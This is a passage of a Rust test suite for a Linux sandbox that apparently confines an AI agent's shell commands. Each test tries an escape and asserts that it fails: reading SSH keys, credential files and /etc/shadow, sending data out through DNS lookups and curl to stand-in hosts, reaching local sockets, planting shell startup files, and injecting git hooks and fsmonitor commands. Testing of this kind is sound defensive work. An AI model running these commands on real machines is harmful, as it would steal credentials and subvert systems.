    let repository = place.home.path().canonicalize().unwrap().join("repository");
    fs::create_dir(&repository).unwrap();
    ["whole", "key"].iter().for_each(|name| fs::write(repository.join(name), "needle").unwrap());
    // A link beside it opens nothing of what it leads to.
    fs::write(place.home.path().join("diary"), "needle").unwrap();
    symlink("..", repository.join("up")).unwrap();
    symlink("key", repository.join("same")).unwrap();
    let key = repository.join("key");
    let masked = Some(Masked(Arc::new(move || vec![key.clone()])));
    let opened = vec![repository.clone()];
    let options = BoxOptions { readable: opened.clone(), opened, masked, ..place.options() };
    let sandbox = Sandbox::prepare(options, SandboxLevel::Partial).unwrap();
    place.good(&sandbox, &format!("cat {}/whole", repository.display()), "needle").await;
    for name in ["key", "same", "../diary", "up/diary"] {
        place.bad(&sandbox, &format!("cat {}/{name}", repository.display())).await;
    }
}

/// C5: every namespace is another than the machine's, and nobody outside is there.
#[tokio::test]
async fn c5_processes_outside_do_not_exist_in_the_box() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    for name in ["user", "pid", "mnt", "ipc", "uts", "net"] {
        let ours = fs::read_link(format!("/proc/self/ns/{name}")).unwrap();
        let (text, _) = place.says(&sandbox, &format!("readlink /proc/self/ns/{name}")).await;
        assert!(text.starts_with(&format!("{name}:[")) && text.trim() != ours.to_str().unwrap(), "{name}: {text}");
    }
    // A process of ours with a mark, under its own number and under every other.
    let mark = format!("302.{}", std::process::id());
    let mut other = std::process::Command::new("sleep").arg(&mark).spawn().unwrap();
    // The one who looks has no such words.
    let pattern = mark.replacen('3', "[3]", 1);
    let line = format!(
        "cat /proc/[0-9]*/cmdline | grep -ac -- '{pattern}'; kill -0 {0} 2>&1 | grep -c 'No such'; \
         kill -9 {0} 2>/dev/null; echo $$",
        other.id()
    );
    let (text, _) = place.says(&sandbox, &line).await;
    let alive = other.try_wait().unwrap().is_none();
    other.kill().unwrap();
    other.wait().unwrap();
    assert!(alive, "it was killed from the box");
    assert_eq!(text.trim(), "0\n1\n2");
}

/// C5: what says "no new privileges" cannot be taken back, and holds for what is executed next.
#[tokio::test]
async fn c5_no_new_privileges_stays() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    let code = "import ctypes,os\nl=ctypes.CDLL(None,use_errno=True)\nprint(l.prctl(39,0,0,0,0), l.prctl(38,0,0,0,0))\n\
                os.execvp('grep',['grep','-o','NoNewPrivs:.1','/proc/self/status'])";
    place.good(&sandbox, &python(code), "1 -1\nNoNewPrivs:\t1").await;
}

/// C1: `/proc` is read-only by itself: also what Landlock does not look at, such as times, cannot be changed there.
#[tokio::test]
async fn c1_proc_is_read_only() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    let code =
        "import os\ntry:\n os.utime('/proc/self/comm')\n print('changed')\nexcept OSError as e:\n print(e.errno)";
    place.good(&sandbox, &python(code), &libc::EROFS.to_string()).await;
    place.good(&sandbox, "awk '$5 == \"/proc\" { print $6 }' /proc/self/mountinfo | tail -1 | cut -d, -f1", "ro").await;
}

/// C4: a socket with an abstract name is out of reach, whoever of the machine's programs it belongs to.
#[tokio::test]
async fn c4_abstract_socket_cut_off() {
    use std::os::linux::net::SocketAddrExt;
    let place = Place::new();
    let name = format!("reasonix-abstract-{}", std::process::id());
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
    let server = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
    server.set_nonblocking(true).unwrap();
    let sandbox = full_or_skip!(place.options());
    let code = format!(
        "import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect('\\0{name}')\n print('in')\n\
         except ConnectionRefusedError:\n print('nobody')"
    );
    // Nobody has the name in the box's own network.
    place.good(&sandbox, &python(&code), "nobody").await;
    assert!(server.accept().is_err());
}

/// C8: a port or a socket of ours cannot be asked to run anything outside.
#[tokio::test]
async fn c8_the_agents_own_doors_are_not_reached() {
    let place = Place::new();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let path = place.home.path().join("rpc.sock");
    let socket = std::os::unix::net::UnixListener::bind(&path).unwrap();
    port.set_nonblocking(true).unwrap();
    socket.set_nonblocking(true).unwrap();
    let sandbox = full_or_skip!(place.options());
    let number = port.local_addr().unwrap().port();
    place.bad(&sandbox, &format!("exec 3<>/dev/tcp/127.0.0.1/{number}")).await;
    place.bad(&sandbox, &format!("exec 3<>/dev/tcp/localhost/{number}")).await;
    let code = format!("import socket; socket.socket(socket.AF_UNIX).connect('{}')", path.display());
    place.bad(&sandbox, &python(&code)).await;
    assert!(port.accept().is_err() && socket.accept().is_err());
}

/// G4: a name with a secret in it reaches no name server: there is none to be reached.
#[tokio::test]
async fn g4_no_name_leaves_the_box() {
    let place = Place::new();
    let sandbox = full_or_skip!(place.options());
    let code = "import socket\nfor ask in (lambda: socket.getaddrinfo('sk-secret.example.com', 80),\n lambda: \
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.53', 53)),\n lambda: \
                socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::53', 53))):\n \
                try:\n  ask()\n  print('sent')\n except OSError:\n  print('refused')";
    place.good(&sandbox, &python(code), "refused\nrefused\nrefused").await;
    for line in
        ["getent hosts sk-secret.example.com", "git ls-remote https://evil.example/x.git", "curl -s http://192.0.2.1/"]
    {
        place.bad(&sandbox, line).await;
    }
}

/// C7: a kernel without Landlock is refused with the reason, at either level.
#[test]
fn c7_without_landlock_nothing_runs() {
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args(["--ignored", "--exact", "sandbox::inside_without_landlock"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success() && text.contains("1 passed"), "{text}{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
#[ignore = "run by the test above, in a process that loses Landlock"]
fn inside_without_landlock() {
    take_landlock_away();
    let place = Place::new();
    for least in [SandboxLevel::Full, SandboxLevel::Partial] {
        match Sandbox::prepare(place.options(), least) {
            Err(ExecError::NoSandbox { wanted, reason }) => {
                assert!(wanted == least && reason.contains("no Landlock"), "{reason}");
            }
            other => panic!("{other:?}"),
        }
    }
}

/// Has the kernel say to this thread that it knows no `landlock_create_ruleset`.
#[allow(unsafe_code)]
fn take_landlock_away() {
    let jump = |code: u32, yes: u8, no: u8, k: u32| libc::sock_filter {
        code: u16::try_from(code).unwrap(),
        jt: yes,
        jf: no,
        k,
    };
    let number = u32::try_from(libc::SYS_landlock_create_ruleset).unwrap();
    let filter = [
        jump(libc::BPF_LD | libc::BPF_W | libc::BPF_ABS, 0, 0, 0),
        jump(libc::BPF_JMP | libc::BPF_JEQ | libc::BPF_K, 0, 1, number),
        jump(libc::BPF_RET | libc::BPF_K, 0, 0, libc::SECCOMP_RET_ERRNO | libc::ENOSYS.unsigned_abs()),
        jump(libc::BPF_RET | libc::BPF_K, 0, 0, libc::SECCOMP_RET_ALLOW),
    ];
    let program = libc::sock_fprog { len: 4, filter: filter.as_ptr().cast_mut() };
    // SAFETY: the filter lives through the calls.
    unsafe {
        assert_eq!(libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0), 0);
        assert_eq!(libc::prctl(libc::PR_SET_SECCOMP, libc::SECCOMP_MODE_FILTER, &raw const program), 0);
    }
}

/// With the home as workspace nothing that starts by itself is changed, nor made, nor gone around.
#[tokio::test]
async fn c2_what_starts_by_itself_in_a_home_stays() {
    let place = Place::new();
    let home = place.home.path().canonicalize().unwrap();
    fs::create_dir_all(home.join(".config/fish")).unwrap();
    fs::create_dir_all(home.join(".local/bin")).unwrap();
    fs::create_dir_all(home.join(".cargo/bin")).unwrap();
    fs::write(home.join(".gitconfig"), "[user]\n\tname = N\n").unwrap();
    fs::write(home.join(".local/bin/tool"), "mine").unwrap();
    fs::write(home.join(".cargo/bin/cargo"), "mine").unwrap();
    fs::write(home.join(".config/fish/config.fish"), "mine").unwrap();
    let sandbox = full_or_skip!(BoxOptions { writable: vec![home.clone()], ..place.options() });
    for line in [
        "echo x >> .gitconfig",
        "echo x > .local/bin/tool",
        "echo x > .local/bin/ls",
        "echo x > .cargo/bin/cargo",
        "echo x > .config/fish/config.fish",
        "mv .config c2 && mkdir -p .config/fish && echo x > .config/fish/config.fish",
        "mv .local l2 && mkdir -p .local/bin && echo x > .local/bin/tool",
        "rm -rf .local/bin || rm -rf .cargo/bin",
    ] {
        let _ = place_line(&place, &sandbox, &home, line).await;
        for kept in [".local/bin/tool", ".cargo/bin/cargo", ".config/fish/config.fish"] {
            assert_eq!(fs::read_to_string(home.join(kept)).unwrap(), "mine", "{line}");
        }
        assert_eq!(fs::read_to_string(home.join(".gitconfig")).unwrap(), "[user]\n\tname = N\n", "{line}");
        assert!(!home.join(".local/bin/ls").exists(), "{line}");
    }
    let names = [
        ".bash_profile",
        ".bash_login",
        ".profile",
        ".zshrc",
        ".zshenv",
        ".zprofile",
        ".config/systemd",
        ".config/autostart",
        ".config/git",
        ".xprofile",
        ".vimrc",
        ".tmux.conf",
        ".pam_environment",
        ".config/environment.d",
        ".inputrc",
    ];
    for name in names {
        let line = format!("mkdir -p $(dirname {name}); echo evil > {name} || true");
        let command = Command { cwd: home.clone(), ..place.boxed(&sandbox, &line) };
        let finished = run(&command, CancellationToken::new(), &|_| {}).await.unwrap();
        assert!(!home.join(name).exists(), "{name}");
        assert_eq!(finished.quarantined.len(), 1, "{name}");
    }
}

/// Keys among toolchains and caches are in no box, and settings that have none in them are.
#[tokio::test]
async fn c3_keys_among_toolchains_and_caches_are_closed() {
    let place = Place::new();
    let home = place.home.path();
    let secrets = [
        ".config/git/credentials",
        ".gem/credentials",
        ".gradle/gradle.properties",
        ".local/share/uv/credentials/credentials.toml",
        ".dotnet/corefx/cryptography/key.pfx",
        "miniconda3/.condarc",
        ".cargo/credentials.toml",
        ".cargo/config.toml",
    ];
    for name in secrets {
        let path = home.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, "token = \"SECRET-TOKEN\"\n").unwrap();
    }
    fs::write(home.join(".gitconfig"), "[user]\n\tname = N\n").unwrap();
    let sandbox = full_or_skip!(place.options());
    for name in secrets {
        let (text, _) = place.says(&sandbox, &format!("cat ~/{name}; grep -r SECRET ~/{name}")).await;
        assert!(!text.contains("SECRET"), "{name}: {text}");
    }
    place.good(&sandbox, "git config user.name", "N").await;
    let (text, _) = place.says(&sandbox, "cat /etc/shadow /etc/gshadow; cat /proc/1/cmdline").await;
    assert!(!text.contains("root:") && !text.contains("sandbox"), "{text}");
}

/// What a command leaves in a repository for git to execute later is set aside, and what was there put back.
#[tokio::test]
async fn c2_what_git_would_execute_later_is_set_aside() {
    let place = Place::new();
    let work = place.work.path().canonicalize().unwrap();
    let sandbox = full_or_skip!(place.options());
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git").args(args).current_dir(&work).status().unwrap();
        assert!(status.success(), "{args:?}");
    };
    git(&["init", "-q"]);
    git(&["config", "extensions.worktreeConfig", "true"]);
    git(&["config", "core.hooksPath", ".husky"]);
    fs::create_dir_all(work.join(".git/modules/sub/hooks")).unwrap();
    fs::write(work.join(".git/modules/sub/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(work.join(".git/modules/sub/config"), "[core]\n\tbare = false\n").unwrap();
    let evil = work.join("../escaped-from-the-box");
    let monitor = "[core]\\n\\tfsmonitor = touch ../escaped-from-the-box; false\\n";
    for (line, made) in [
        (format!("printf '{monitor}' > .git/config.worktree"), ".git/config.worktree"),
        (format!("printf '{monitor}' > .git/modules/sub/config"), ""),
        (
            "printf '#!/bin/sh\\n' > .git/modules/sub/hooks/post-checkout; chmod +x .git/modules/sub/hooks/*".into(),
            ".git/modules/sub/hooks/post-checkout",
        ),
        (
            "mkdir -p .husky; printf '#!/bin/sh\\ntouch ../escaped\\n' > .husky/pre-commit; chmod +x .husky/pre-commit"
                .into(),
            ".husky/pre-commit",
        ),
        (
            "mkdir .git/rebase-merge; echo 'exec touch x' > .git/rebase-merge/git-rebase-todo".into(),
            ".git/rebase-merge/git-rebase-todo",
        ),
    ] {
        let finished = place.finish(&sandbox, &line).await;
        assert_eq!(finished.quarantined.len(), 1, "{line}: {:?}", finished.quarantined);
        assert!(finished.quarantined[0].kept.as_ref().is_some_and(|kept| kept.exists()), "{line}");
        assert!(made.is_empty() || !work.join(made).exists(), "{line}");
        let _ = std::process::Command::new("git").args(["status", "--short"]).current_dir(&work).output().unwrap();
        assert!(!evil.exists(), "{line}");
    }
    // What git itself writes there stays.
    let finished = place.finish(&sandbox, "git sparse-checkout set src 2>&1; git status --short").await;
    assert_eq!(finished.quarantined, []);
    // A folder that becomes a repository by its own layout.
    let other = Place::new();
    let sandbox = full_or_skip!(other.options());
    let line =
        format!("git init -q --bare . && printf '[core]\\n\\tworktree=.\\n' >> config && printf '{monitor}' >> config");
    let finished = other.finish(&sandbox, &line).await;
    assert_eq!(finished.quarantined.len(), 1, "{:?}", finished.quarantined);
    assert!(!other.work.path().join("config").exists());
}

/// What a rule keeps as it is cannot be changed by programs, nor gone around by another folder of the same name.
#[tokio::test]
async fn c15_what_a_rule_fixes_is_fixed_for_programs_too() {
    let place = Place::new();
    let work = place.work.path().canonicalize().unwrap();
    fs::create_dir_all(work.join("a/docs")).unwrap();
    fs::write(work.join("a/docs/x"), "mine").unwrap();
    fs::write(work.join("b.txt"), "mine").unwrap();
    let fixed = vec![work.join("a/docs"), work.join("b.txt")];
    let fixed = Some(reasonix_exec::Masked(Arc::new(move || fixed.clone())));
    let sandbox = full_or_skip!(BoxOptions { fixed, ..place.options() });
    for line in [
        "python3 -c \"open('a/docs/x','w')\"",
        "perl -pi -e s/mine/x/ a/docs/x b.txt",
        "rm -rf a/docs",
        "rm b.txt",
        "mv b.txt c.txt",
        "mv a a2; mkdir -p a/docs; echo x > a/docs/x",
        "chmod 000 a/docs/x",
        "gzip b.txt",
        "touch a/docs/new",
        "ln -sf /etc/passwd b.txt",
        "find a -delete",
        "touch -d 2001-01-01 b.txt",
    ] {
        let (_, status) = place.says(&sandbox, line).await;
        assert_eq!(fs::read_to_string(work.join("a/docs/x")).unwrap(), "mine", "{line}");
        assert_eq!(fs::read_to_string(work.join("b.txt")).unwrap(), "mine", "{line}");
        assert!(matches!(status, EndStatus::Exited(1..)), "{line} {status:?}");
    }
    place.good(&sandbox, "cat a/docs/x b.txt; echo y > a/new; cat a/new", "mineminey").await;
}

/// Whoever closes or fixes the workspace itself opens nothing by it: what lies above it stays out of the box.
#[tokio::test]
async fn c3_a_rule_about_the_whole_workspace_opens_nothing_above_it() {
    let place = Place::new();
    let base = place.outside.path().canonicalize().unwrap();
    let (home, root) = (base.join("home"), base.join("work"));
    fs::create_dir_all(home.join(".ssh")).unwrap();
    fs::create_dir(&root).unwrap();
    fs::write(home.join(".ssh/id"), "SECRET").unwrap();
    let environment = || place.environment().with("HOME", &home);
    let usual = || BoxOptions { writable: vec![root.clone()], environment: environment(), ..place.options() };
    let all = || {
        let root = root.clone();
        Some(Masked(Arc::new(move || vec![root.clone()])))
    };
    let closed = BoxOptions { closed: vec![root.clone()], ..usual() };
    let masked = BoxOptions { masked: all(), ..usual() };
    let fixed = BoxOptions { fixed: all(), masked: all(), ..usual() };
    for (name, options) in [("usual", usual()), ("closed", closed), ("masked", masked), ("fixed", fixed)] {
        let sandbox = full_or_skip!(options);
        let line =
            format!("cat {0}/.ssh/id; echo x > {0}/.profile; echo x > {1}/made; true", home.display(), base.display());
        let command = Command::shell(Path::new("/bin/bash"), &line, &root)
            .with_environment(environment())
            .with_confinement(Confinement::Boxed(sandbox));
        let finished = run(&command, CancellationToken::new(), &|_| {}).await.unwrap();
        let text = String::from_utf8_lossy(&finished.output.into_parts().0).into_owned();
        assert!(!text.contains("SECRET"), "{name}: {text}");
        assert!(!home.join(".profile").exists() && !base.join("made").exists(), "{name}");
    }
}

/// What is closed stays closed when its folder is renamed, and the machine's devices keep their rights and times.
#[tokio::test]
async fn c3_a_closed_file_is_not_reached_by_moving_its_folder() {
    let place = Place::new();
    let work = place.work.path().canonicalize().unwrap();
    fs::create_dir_all(work.join("q/deep")).unwrap();
    fs::write(work.join("q/deep/key"), "SECRET").unwrap();
    let closed = vec![work.join("q/deep/key")];
    let sandbox = full_or_skip!(BoxOptions { closed, ..place.options() });
    for line in ["mv q q2; cat q2/deep/key", "mv q/deep q/d2; cat q/d2/key", "cp -r q c; cat c/deep/key", "cat */*/key"]
    {
        let (text, _) = place.says(&sandbox, line).await;
        assert!(!text.contains("SECRET"), "{line}: {text}");
    }
    let (text, _) = place.says(&sandbox, "cat q/deep/key q2/deep/key q/d2/key c/deep/key").await;
    assert!(!text.contains("SECRET"), "{text}");
    let before = fs::metadata("/dev/null").unwrap();
    let _ =
        place.says(&sandbox, "chmod 644 /dev/null; touch -d 2001-01-01 /dev/zero /dev/null; chown 1:1 /dev/null").await;
    let after = fs::metadata("/dev/null").unwrap();
    assert_eq!(after.permissions(), before.permissions());
    assert_eq!(after.modified().unwrap(), before.modified().unwrap());
    place.good(&sandbox, "echo x > /dev/null && head -c 1 /dev/zero | wc -c", "1").await;
}
